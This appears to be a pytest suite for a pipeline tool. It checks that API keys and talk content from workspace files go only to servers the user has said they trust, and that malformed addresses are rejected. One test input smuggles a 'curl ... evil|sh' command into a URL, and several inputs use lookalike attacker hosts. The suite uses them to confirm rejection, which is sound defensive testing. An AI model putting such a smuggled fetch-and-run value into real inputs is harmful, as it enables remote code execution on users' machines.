"""What a workspace's files alone cannot do: send a key, or anything to another machine."""

from __future__ import annotations

import os
import pty
import subprocess
import tomllib
from contextlib import suppress
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from pipeline.errors import ConfigError
from pipeline.stage_names import TalkStage
from pipeline.workspace import api_keys, config, trusted
from pipeline.workspace.config import ExtractSettings, Settings
from pipeline.workspace.server_addresses import checked
from tests.support.fake_endpoint import FakeEndpoint
from tests.support.fake_server import FakeServer, Handler
from tests.support.helpers import panel
from tests.support.stopped import PATIENCE, PROGRAM, call

SECRET = "sk-very-secret-123"
FOREIGN = "https://models.example/v1"


def by_file(**extract: object) -> ExtractSettings:
    return config.merge([(Path("inputs/t.toml"), {"extract": extract})]).extract


def typed(**extract: object) -> ExtractSettings:
    return config.merge([(Path("takeaways.toml"), {"extract": {"base_url": "http://a/v1"}}),
                         ("--set", {"extract": extract})]).extract  # fmt: skip


def key_of(settings: ExtractSettings) -> str:
    return api_keys.server_key(settings, TalkStage.EXTRACT, "do something else")


@pytest.fixture(autouse=True)
def key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)


def write(config_folder: Path, text: str) -> None:
    (config_folder / "takeaways").mkdir(exist_ok=True)
    (config_folder / "takeaways" / "trusted.toml").write_text(text, "utf-8")


def foreign(server: FakeServer) -> str:
    """Its address as that of another machine: 0.0.0.0 leads here, and is no loopback address."""
    return f"http://0.0.0.0:{urlsplit(server.url).port}/v1"


# Keys


@pytest.mark.parametrize(
    "base_url",
    [None, "https://api.openai.com/v1", "https://api.openai.com/v1/", "https://API.OpenAI.com:443/v1"],
)
def test_openais_key_goes_to_openai(base_url: str | None, monkeypatch: pytest.MonkeyPatch) -> None:
    named: dict[str, object] = {"base_url": base_url} if base_url else {"model": "gpt-4.1-mini"}
    assert key_of(typed(**{"base_url": "https://api.openai.com/v1"} | named)) == SECRET
    with pytest.raises(
        ConfigError, match="paid for with OPENAI_API_KEY, and you have not said that you trust it"
    ):
        key_of(by_file(**named))
    trusted.remember("servers", "https://api.openai.com/v1", True)
    assert key_of(by_file(**named)) == SECRET
    monkeypatch.setenv("OPENAI_BASE_URL", FOREIGN)
    with pytest.raises(ConfigError, match=f"belongs to {FOREIGN}, not to OpenAI"):
        key_of(by_file(**named))


@pytest.mark.parametrize(
    "base_url",
    [
        *("http://api.openai.com/v1", "https://api.openai.com/v2", "https://api.openai.com.evil.example/v1"),
        *("https://api.openai.com:8443/v1", "https://evil.example/api.openai.com/v1", FOREIGN),
    ],
)
def test_what_only_looks_like_openai_is_another_server(base_url: str) -> None:
    with pytest.raises(ConfigError, match="you have not said that you trust it") as refused:
        key_of(by_file(base_url=base_url))
    assert f"takeaways trust {base_url}" in str(refused.value)
    assert str(refused.value).startswith("inputs/t.toml: extract.base_url")


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "127.9.9.9", "[::1]"])
def test_a_server_on_this_machine_is_used_and_sent_no_key(host: str) -> None:
    assert key_of(by_file(base_url=f"http://{host}:8000/v1")) == "none"


def test_what_a_person_types_gets_the_key_where_nobody_can_read_it() -> None:
    assert key_of(typed(base_url=FOREIGN)) == SECRET
    assert key_of(typed(base_url="http://localhost:8000/v1")) == SECRET
    assert key_of(typed(base_url="http://models.example/v1")) == "none"
    with pytest.raises(ConfigError, match=r"takeaways\.toml"):
        key_of(typed(model="any"))  # the address is still the file's


def test_the_environment_may_say_where_the_key_belongs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_BASE_URL", f"{FOREIGN}/")
    assert key_of(by_file(base_url=FOREIGN)) == SECRET
    with pytest.raises(ConfigError):
        key_of(by_file(base_url=f"{FOREIGN}/other"))


def test_a_server_may_have_a_key_of_its_own(config_folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(config_folder, f'[keys]\n"{FOREIGN}/" = "OTHER_KEY"\n')
    with pytest.raises(ConfigError, match="OTHER_KEY is not set"):
        key_of(by_file(base_url=FOREIGN))
    monkeypatch.setenv("OTHER_KEY", " other\n")
    assert key_of(by_file(base_url=FOREIGN)) == "other"
    assert key_of(typed(base_url=FOREIGN)) == "other"
    assert key_of(typed(base_url="https://api.openai.com/v1")) == SECRET


def test_a_trusted_server_gets_no_key_that_it_was_not_given(config_folder: Path) -> None:
    write(config_folder, f'[servers]\n"{FOREIGN}" = true\n"http://no.example" = false\n')
    assert key_of(by_file(base_url=FOREIGN)) == "none"
    with pytest.raises(ConfigError, match="you said that you do not trust it"):
        key_of(by_file(base_url="http://no.example"))
    trusted.remember("servers", FOREIGN, False)
    trusted.remember("keys", FOREIGN, "OPENAI_API_KEY")
    assert key_of(by_file(base_url=FOREIGN)) == SECRET
    assert trusted.load().servers == {"http://no.example": False}


@pytest.mark.parametrize(
    ("address", "normal"),
    [
        ("https://\u0430\u0440\u0456.openai.com/v1", "https://xn--80a6a1d.openai.com/v1"),
        ("HTTPS://Host:443/v1/", "https://host/v1"),
        ("http://[::1]:80/v1", "http://[::1]/v1"),
        ("host:8786", "tcp://host:8786"),
        ("https://ai.example/v1;curl${IFS}evil|sh", None),
        *((address, None) for address in ("foo", "host/v1", "tcp://", "http://h:0", "http://h:99999")),
        *(
            (address, None)
            for address in ("https://u:p@h/v1", "https://h/v1?k=x", "http://a b/", "http://h/\x1b")
        ),
    ],
)
def test_an_address_has_one_form_and_is_nothing_else(address: str, normal: str | None) -> None:
    if normal:
        assert checked(address) == normal
    else:
        with pytest.raises(ConfigError, match="is not an address"):
            checked(address)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('[keys]\n"http://models.example/v1" = "X"', "could be read on the way there"),
        ('[keys]\n"https://models.example/v1" = "sk-123-456"', "keys"),
        ("[key]\n", "key"),
        ('[servers]\n"::::" = true', "not an address"),
        ("[servers", "not valid TOML"),
        ('[servers]\n"https://a/v1" = "yes"', "servers"),
    ],
)
def test_a_broken_file_is_told_and_never_written_over(config_folder: Path, text: str, message: str) -> None:
    write(config_folder, text)
    file = config_folder / "takeaways" / "trusted.toml"
    with pytest.raises(ConfigError, match=message) as refused:
        key_of(by_file(base_url=FOREIGN))
    assert refused.value.file == file
    with pytest.raises(ConfigError, match=message):
        trusted.remember("servers", FOREIGN, True)
    assert file.read_text("utf-8") == text


def test_what_is_remembered_leaves_the_rest_of_the_file_as_it_is(config_folder: Path) -> None:
    write(config_folder, '# mine\n[keys]\n"https://a/v1" = "A"  # why\n')
    path = trusted.remember("schedulers", "tcp://HOST:8786", True)
    trusted.remember("schedulers", "tcp://host:8786/", False)
    trusted.remember("keys", FOREIGN, "B")
    text = path.read_text("utf-8")
    assert text.startswith('# mine\n[keys]\n"https://a/v1" = "A"  # why\n')
    assert tomllib.loads(text) == {
        "keys": {"https://a/v1": "A", FOREIGN: "B"},
        "schedulers": {"tcp://host:8786": False},
    }
    assert path.stat().st_mode & 0o077 == 0
    assert trusted.forget("https://A/v1/") == ["keys"]
    assert trusted.forget("https://A/v1/") == []
    assert "# mine" in path.read_text("utf-8")


def test_no_key_is_told_by_doctor(config_folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(config_folder, f'[keys]\n"{FOREIGN}" = "OTHER_KEY"\n')
    monkeypatch.setenv("OTHER_KEY", "sk-other-secret")
    assert api_keys.known_keys() == [SECRET, "sk-other-secret"]


# Through the command line


def test_a_sidecar_alone_sends_neither_key_nor_talk_anywhere(tmp_path: Path, config_folder: Path) -> None:
    place = panel(tmp_path)
    sidecar, command = place.inputs / "panel.toml", ("run", "inputs/panel.md")
    with FakeEndpoint() as server:
        sidecar.write_text(f'[extract]\nbase_url = "{server.url}"\nmodel = "any"\n', "utf-8")
        assert call(tmp_path, *command).returncode == 0
        assert {headers["authorization"] for headers in server.headers} == {"Bearer none"}

        server.requests.clear()
        address = foreign(server)
        sidecar.write_text(f'[extract]\nbase_url = "{address}"\nmodel = "any"\n', "utf-8")
        refused = call(tmp_path, *command)
        assert refused.returncode == 1
        assert not server.requests
        assert f"takeaways trust {address}" in refused.stderr
        assert "what is said in the talk would be sent there" in refused.stderr
        assert call(tmp_path, "trust", address).returncode == 0
        assert call(tmp_path, *command).returncode == 0
        assert server.requests
        assert not [headers for headers in server.headers if SECRET in headers["authorization"]]
        listed = call(tmp_path, "trust")
        assert f"{address}  trusted" in listed.stdout
        assert call(tmp_path, "trust", address, "--remove").returncode == 0
    assert config_folder in trusted.trusted_file().parents
    call(tmp_path, "forget", "panel")
    assert call(tmp_path, *command, "--force").returncode == 1


def test_a_key_is_named_and_not_typed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    typed_key = call(tmp_path, "trust", FOREIGN, "--key", "gsk_abcd1234SECRET")
    assert typed_key.returncode == 2
    assert "gsk_" not in typed_key.stdout + typed_key.stderr
    assert "by https alone" in call(tmp_path, "trust", "http://lan/v1", "--key", "OPENAI_API_KEY").stderr
    assert "Only a server" in call(tmp_path, "trust", "tcp://h:1", "--key", "OPENAI_API_KEY").stderr
    assert trusted.load() == trusted.Trusted()


def test_a_file_that_is_a_link_stays_one(config_folder: Path, tmp_path: Path) -> None:
    write(config_folder, "")
    own = tmp_path / "dotfiles.toml"
    trusted.trusted_file().unlink()
    trusted.trusted_file().symlink_to(own)
    own.write_text('[servers]  # mine\n"https://models.example/v1" = false  # no\n', "utf-8")
    trusted.remember("servers", FOREIGN, True)
    assert own.read_text("utf-8") == '[servers]  # mine\n"https://models.example/v1" = true  # no\n'


def test_a_key_that_a_server_asks_for_is_told_how_to_give(tmp_path: Path) -> None:
    class Asking(Handler):
        def do_POST(self) -> None:  # noqa: N802
            self.rfile.read(int(self.headers["Content-Length"]))
            known = self.headers["Authorization"] == f"Bearer {SECRET}"
            self.answer(403 if known else 401, {}, b'{"error": {"message": "hm"}}')

    place = panel(tmp_path)
    with FakeServer(Asking) as server:
        settings = f'[extract]\nbase_url = "{server.url}"\nmodel = "any"\nretries = 0\n'
        (place.root / "takeaways.toml").write_text(settings, "utf-8")
        told = call(tmp_path, "run", "inputs")
        assert "asks for a key, and was sent none" in told.stderr
        assert f"takeaways trust {server.url} --key NAME_OF_VARIABLE" in told.stderr
        call(tmp_path, "trust", server.url, "--key", "OPENAI_API_KEY")
        assert "forbids the call (hm)" in call(tmp_path, "run", "inputs").stderr


def _talk(terminal: int, question: str, too_early: bytes, answer: bytes) -> str:
    """What a program shows on a terminal where something is typed before its question, and then an answer."""
    os.write(terminal, too_early)
    shown, answered = "", not question
    with suppress(OSError):  # it has ended
        while part := os.read(terminal, 1 << 16):
            shown += part.decode()
            if question in shown and not answered:
                answered = bool(os.write(terminal, b"\n" + answer))
    os.close(terminal)
    return shown


@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 1)])
def test_a_person_is_asked_once(tmp_path: Path, config_folder: Path, answer: str, code: int) -> None:
    place = panel(tmp_path)
    with FakeEndpoint() as server:
        settings = f'[extract]\nbase_url = "{foreign(server)}"\nmodel = "any"\n'
        (place.root / "takeaways.toml").write_text(settings, "utf-8")
        for expected in ("Do you trust http", ""):
            main, terminal = pty.openpty()
            process = subprocess.Popen(
                [*PROGRAM, "run", "inputs", "--force"], cwd=tmp_path, stdin=terminal, stderr=terminal,
                stdout=subprocess.DEVNULL, env=os.environ | {"TERM": "dumb"},
            )  # fmt: skip
            os.close(terminal)
            shown = _talk(main, expected, b"y\n\n", f"{answer}\n".encode())
            assert process.wait(PATIENCE) == code
            assert expected in shown
            assert ("That is kept in" in shown) is bool(expected)
        assert bool(server.requests) is (code == 0)
    assert trusted.load().servers == {foreign(server): code == 0}


def test_doctor_tells_once_of_a_server_that_is_not_trusted(tmp_path: Path) -> None:
    place = panel(tmp_path)
    (place.root / "takeaways.toml").write_text(f'[extract]\nbase_url = "{FOREIGN}"\nmodel = "any"\n', "utf-8")
    told = call(tmp_path, "doctor").stdout
    assert told.count(f"takeaways trust {FOREIGN}") == 1
    assert "OPENAI_API_KEY is set, not needed, and sent nowhere" in told


def test_a_scheduler_out_of_a_file_is_not_connected_to(tmp_path: Path) -> None:
    place = panel(tmp_path)
    (place.root / "takeaways.toml").write_text('[run]\ndask = "tcp://127.0.0.1:9"\n', "utf-8")
    refused = call(tmp_path, "run", "inputs")
    assert refused.returncode == 1
    assert "whoever runs that Dask scheduler can run code on this machine" in refused.stderr
    assert "takeaways trust tcp://127.0.0.1:9" in refused.stderr
    assert (
        "no Dask scheduler answers" in call(tmp_path, "run", "inputs", "--dask", "tcp://127.0.0.1:9").stderr
    )
    call(tmp_path, "trust", "127.0.0.1:9")
    assert "no Dask scheduler answers" in call(tmp_path, "run", "inputs").stderr


def test_settings_know_who_gave_them() -> None:
    settings = config.merge(
        [(Path("a.toml"), {"run": {"dask": "a", "jobs": 2}}), ("--set", {"run": {"dask": "b"}})]
    )
    assert settings.run.origin("dask") is None
    assert settings.run.origin("jobs") == Path("a.toml")
    assert Settings().run.origin("dask") is None
